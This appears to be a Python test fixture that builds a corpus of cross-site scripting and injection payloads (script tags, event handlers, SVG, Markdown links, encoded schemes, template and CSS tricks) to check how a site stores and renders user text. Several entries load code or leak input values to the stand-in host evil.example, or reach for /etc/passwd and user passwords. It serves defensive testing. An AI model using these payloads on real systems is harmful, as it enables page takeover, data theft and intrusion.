"""Texts that try to run something (``x()``), to load something (``//evil.example``) or to take the page over.

Written from the known classes: elements and handlers, SVG and MathML, addresses in every spelling, Markdown, entities,
odd characters, attributes that scripts of the page act upon, styles, mutation in the parser, and several at once.
"""

from __future__ import annotations

from itertools import product

TAGS = [
    "<script>x()</script>",
    "<SCRIPT>x()</SCRIPT>",
    "<script src=//evil.example/1.js></script>",
    "<script type=module>x()</script>",
    "<script/x>x()</script>",
    "<script\n>x()</script\n>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<<script>x();//<</script>",
    "<script>x()<!--",
    "<script>/*<!--<script>*/x()</script>",
    "</script><script>x()</script>",
    "</textarea><script>x()</script>",
    "</title><script>x()</script>",
    "</style><script>x()</script>",
    "</noscript><script>x()</script>",
    "</template><script>x()</script>",
    "</select></option><script>x()</script>",
    "--><script>x()</script>",
    "]]><script>x()</script>",
    "<![CDATA[<script>x()</script>]]>",
    "<!--><script>x()</script>-->",
    "<?xml version='1.0'?><script>x()</script>",
    "<iframe src=javascript:x()>",
    "<iframe srcdoc='<script>parent.x()</script>'>",
    "<iframe src=//evil.example></iframe>",
    "<frameset onload=x()>",
    "<object data=javascript:x()>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<embed src=javascript:x()>",
    "<applet code=x archive=//evil.example/a></applet>",
    "<link rel=stylesheet href=//evil.example/1.css>",
    "<link rel=preload as=image href=//evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:x()'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input type=submit autofocus></form>",
    "<button formaction=javascript:x()>go</button>",
    "<isindex action=javascript:x() type=image>",
    "<img src=//evil.example/i.png>",
    "<img srcset='//evil.example/s.png 1x'>",
    "<picture><source srcset=//evil.example/p.png><img></picture>",
    "<video poster=//evil.example/v.png></video>",
    "<audio src=//evil.example/a.ogg autoplay></audio>",
    "<video><track src=//evil.example/t.vtt default></video>",
    "<input type=image src=//evil.example/n.png>",
    "<table background=//evil.example/t.png><tr><td>a",
    "<body background=//evil.example/b.png>",
    "<portal src=//evil.example></portal>",
    "<dialog open><script>x()</script></dialog>",
    "<a href=x ping=//evil.example/ping>a</a>",
    "<plaintext>",
    "<xmp><script>x()</script></xmp>",
    "<listing><img src=q onerror=x()></listing>",
]
HANDLERS = [
    *(f"<{tag} {handler}=x()>" for tag, handler in (
        ("img src=q", "onerror"), ("img/src=q/", "onerror"), ("IMG SRC=q", "ONERROR"), ("img src=q\n", "onerror"),
        ("img src='q' a='>'", "onerror"), ("image src=q", "onerror"), ("body", "onload"), ("body", "onpageshow"),
        ("svg", "onload"), ("svg/", "onload"), ("svg\t", "onload"), ("svg\x0c", "onload"), ("style", "onload"),
        ("iframe", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("a tabindex=1 autofocus", "onfocus"),
        ("details open", "ontoggle"), ("marquee", "onstart"), ("video><source", "onerror"), ("audio src=q", "onerror"),
        ("object data=q", "onerror"), ("link rel=stylesheet href=q", "onerror"), ("div", "onmouseover"),
        ("b style=animation-name:rise", "onanimationstart"), ("div onscrollend", "onscroll"),
        ("p popover id=q", "onbeforetoggle"), ("form", "onformdata"), ("meter", "onclick"), ("div", "onwheel"),
        ("div contenteditable autofocus", "onbeforeinput"), ("div", "onpointerrawupdate"), ("video", "oncanplay"),
        ("xss", "oncontentvisibilityautostatechange"),
    )),
    "<img src=q onerror='x&#40;&#41;'>",
    "<img src=q onerror=\"x&lpar;&rpar;\">",
    "<img src=q onerror=x&#x28;&#x29;>",
    "<img src=q onerror=window['x']()>",
    "<img src=q onerror=\u0061\u006c\u0065\u0072\u0074`1`>",
    "<img src=q oneonerrorrror=x()>",
    "<img src=`q` onerror=x()>",
    "<img \x00src=q onerror=x()>",
    "<img src=q o\x00nerror=x()>",
]  # fmt: skip
FOREIGN = [
    "<svg><script>x()</script></svg>",
    "<svg><script href=//evil.example/s.js /></svg>",
    "<svg><a xlink:href=javascript:x()><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=x() attributeName=x dur=1s>",
    "<svg><set onbegin=x() attributeName=x>",
    "<svg><animate attributeName=href values=javascript:x() />",
    "<svg><use href='data:image/svg+xml,<svg id=q onload=x()>#q'/></svg>",
    "<svg><use href=//evil.example/u.svg#q /></svg>",
    "<svg><image href=//evil.example/i.svg /></svg>",
    "<svg><feImage href=//evil.example/f.png /></svg>",
    "<svg><foreignObject><iframe onload=x()></foreignObject></svg>",
    "<svg><style>@import'//evil.example/s.css'</style></svg>",
    "<svg><title><img src=q onerror=x()></title></svg>",
    "<svg><desc><script>x()</script></desc></svg>",
    "<svg><handler type=text/javascript>x()</handler></svg>",
    "<math href=javascript:x()>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:x()>a",
    "<math><mtext><script>x()</script></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=q onerror=x()></math>",
]
SCHEMES = [
    "javascript:x()", "JaVaScRiPt:x()", " javascript:x()", "java\tscript:x()", "java\nscript:x()", "java\rscript:x()",
    "\x01javascript:x()", "&#106;avascript:x()", "&#x6A;avascript:x()", "&#0000106avascript:x()",
    "javascript&colon;x()", "javascript&#58;x()", "java&Tab;script:x()", "java&NewLine;script:x()",
    "javascript://%0Ax()", "javascript:%78()", "javascript\u2236x()", "\u200bjavascript:x()", "vbscript:x()",
    "data:text/html,<script>x()</script>", "data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
    "DATA:text/html,<script>x()</script>", "data:image/svg+xml,<svg/onload=x()>", "blob:https://evil.example/1",
    "filesystem:https://evil.example/t/x", "view-source:javascript:x()", "jar:https://evil.example!/x.html",
    "feed:javascript:x()", "//evil.example/link", "\\\\evil.example\\x", "https:evil.example", "file:///etc/passwd",
]  # fmt: skip
ADDRESSES = [
    wrap.format(scheme)
    for wrap, scheme in [
        *product(["[a]({})"], SCHEMES),
        *product(["<a href='{}'>a</a>"], SCHEMES[:15]),
        *product(["![a]({})"], SCHEMES[:1] + SCHEMES[19:24] + SCHEMES[28:30]),
        *product(["<{}>"], SCHEMES[:2] + SCHEMES[18:20]),
        *product(["[a][1]\n\n[1]: {}\n"], SCHEMES[:6] + SCHEMES[18:20]),
        *product(["[a](<{}>)"], SCHEMES[:5]),
    ]
]
MARKDOWN = [
    "![a](https://evil.example/m.png)",
    "[![a](https://evil.example/n.png)](javascript:x())",
    "![a][2]\n\n[2]: https://evil.example/r.png\n",
    '[a](https://evil.example "\\" onmouseover=\\"x()")',
    "[a](https://evil.example/'onclick='x())",
    '[a](https://evil.example/"onfocus="x()"autofocus="")',
    "[a](https://evil.example/`onclick=x()`)",
    "[<img src=q onerror=x()>](https://evil.example)",
    "`<img src=q onerror=x()>`",
    "```<img src=q onerror=x()>\ncode\n```",
    '```"><script>x()</script>\ncode\n```',
    "    <script>x()</script>",
    "> <script>x()</script>",
    "- <img src=q onerror=x()>",
    "| <img src=q onerror=x()> | b |\n|-|-|\n| 1 | <svg onload=x()> |",
    "# <img src=q onerror=x()>",
    "**<script>x()</script>**",
    "~~<svg onload=x()>~~",
    "\\<script>x()\\</script>",
    '<https://evil.example/"onclick=x()>',
    "www.evil.example/<script>x()</script>",
    "https://evil.example/?<img src=q onerror=x()>",
    'a@b.example"onclick=x()',
    "[a]: javascript:x()\n[a]",
    "$$\\href{javascript:x()}{a}$$",
    "[^1]\n\n[^1]: <script>x()</script>",
    "# t {onclick=x()}",
    "<!-- --!><img src=q onerror=x()> -->",
]
ENTITIES = [
    "&lt;script&gt;x()&lt;/script&gt;",
    "&#60;script&#62;x()&#60;/script&#62;",
    "&#x3C;img src=q onerror=x()&#x3E;",
    "&lt&#115cript&gtx()&lt/script&gt",
    "&amp;lt;script&amp;gt;x()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ex()%3C/script%3E",
    "\\u003cscript\\u003ex()\\u003c/script\\u003e",
    "\\x3cscript\\x3ex()\\x3c/script\\x3e",
    "+ADw-script+AD4-x()+ADw-/script+AD4-",
    "\uff1cscript\uff1ex()\uff1c/script\uff1e",
    "\u2039script\u203ax()\u2039/script\u203a",
    "\u3008script\u3009x()",
    "<scr\u0131pt>x()</scr\u0131pt>",
    "<\u017fcript>x()</\u017fcript>",
    "<scr\u00adipt>x()</scr\u00adipt>",
    "<script\u2028>x()</script>",
    "\u202e>tpircs/<)(x>tpircs<",
    "\U000e003cscript>x()",
    "<\ufeffscript>x()</script>",
    "<a\u0300 onclick=x()>",
]
QUOTES = [
    '"><script>x()</script>',
    "'><script>x()</script>",
    "`><script>x()</script>",
    '" autofocus onfocus=x() a="',
    "' autofocus onfocus=x() a='",
    '" onmouseover="x()',
    "' onerror='x()",
    '"-x()-"',
    "'-x()-'",
    "\\'-x()//",
    "${x()}",
    "`${x()}`",
    '"}]}</script><script>x()</script>',
    '{"a":"</script><script>x()</script>"}',
    "');x();//",
    '");x();//',
    "*/x()/*",
    "\n//\nx()\n//",
    '"/><svg/onload=x()>',
    'javascript:/*--></title></style></textarea></script><svg/onload="x()">',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=x() )//",
    "'\"><img src=q onerror=x()>{{7*7}}",
    "</p></div></main><script>x()</script>",
    '-->\'"/></sCript><svG x=">" onload=(x)()>',
]
ATTRIBUTES = [
    "<div hx-get=/p/ hx-trigger=load>a</div>",
    "<div data-hx-get=//evil.example hx-trigger=load>a</div>",
    "<div hx-on:load=x()>a</div>",
    "<div hx-on::after-request=x() hx-get=/ hx-trigger=load></div>",
    "<div hx-vals='js:{a:x()}' hx-get=/ hx-trigger=load></div>",
    "<div hx-trigger='load[x()]' hx-get=/></div>",
    "<div hx-ext=//evil.example/x.js></div>",
    "<p id=toast hx-swap-oob=true>owned</p>",
    "<p id=labels hx-swap-oob=outerHTML>owned</p>",
    "<button data-key=p data-verb=label>a</button>",
    "<a data-copy=labels data-open=shortcuts href=#>a</a>",
    "<form id=labels action=//evil.example></form>",
    "<input name=csrfmiddlewaretoken value=x>",
    "<template id=claim><script>x()</script></template>",
    "<a id=hub name=hub href=//evil.example>a</a>",
    "<img name=cookie><img name=getElementById>",
    "<form name=body><input name=parentNode></form>",
    "{{ constructor.constructor('x()')() }}",
    "{% debug %}{% include '/etc/passwd' %}",
    "{{ request.user.password }}",
    "<%= x() %>",
    "#{x()}",
    "<div x-data=x() @click=x() v-html=x() ng-init=x()>a</div>",
    "<div style=position:fixed;inset:0;z-index:9>a</div>",
]
STYLES = [
    "<style>*{background:url(//evil.example/s)}</style>",
    "<style>@import '//evil.example/i.css';</style>",
    "<style>@font-face{font-family:q;src:url(//evil.example/f)}</style>",
    "<p style=background:url(//evil.example/p)>a</p>",
    "<p style='width:expression(x())'>a</p>",
    "<p style='behavior:url(//evil.example/b)'>a</p>",
    "<p style='-moz-binding:url(//evil.example/m)'>a</p>",
    "<p style='content:\\0022;x()'>a</p>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "};*{background:url(//evil.example/c)}",
]
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
    '<svg></p><style><a id="</style><img src=q onerror=x()>">',
    '<noscript><p title="</noscript><img src=q onerror=x()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<math><mi><style><img src=q onerror=x()></style></mi></math>",
    '<p id="</title><img src=q onerror=x()>"><title>',
    "<table><td><svg><desc><td><style><img src=q onerror=x()>",
    "<select><template><style><!--</style><a rel=--></style></template><img src=q onerror=x()>",
    '<svg><style><img title="</style><img src=q onerror=x()>">',
    "<xmp><p title='</xmp><img src=q onerror=x()>'>",
    "<a title='&#60;/a&#62;&#60;img src=q onerror=x()&#62;'>a</a>",
    "<b><p></b><img src=q onerror=x()></p>",
    "<svg><p><style><g title='</style><img src=q onerror=x()>'>",
    "<textarea><img title='</textarea><img src=q onerror=x()>'>",
    "<!--<img src='--><img src=q onerror=x()//'>",
    "<div><a><table><a><script>x()</script>",
]
CASES = list(dict.fromkeys(
    [*TAGS, *HANDLERS, *FOREIGN, *ADDRESSES, *MARKDOWN, *ENTITIES, *QUOTES, *ATTRIBUTES, *STYLES, *MUTATIONS]
))  # fmt: skip


def storable(text: str) -> str:
    """Without NUL, which no column takes and the API replaces."""
    return text.replace("\x00", "")


def together(*, first: int = 0) -> str:
    """All of them in one text, each a paragraph of its own, beginning with the n-th."""
    texts = [storable(case) for case in CASES]
    return "\n\n".join(texts[first:] + texts[:first])


def packed(size: int) -> list[str]:
    """All of them in texts of at most this many characters; a case that does not fit is cut."""
    found: list[str] = []
    line = ""
    for case in (storable(case)[:size] for case in CASES):
        if line and len(line) + 1 + len(case) > size:
            found.append(line)
            line = ""
        line = f"{line} {case}" if line else case
    return [*found, line]
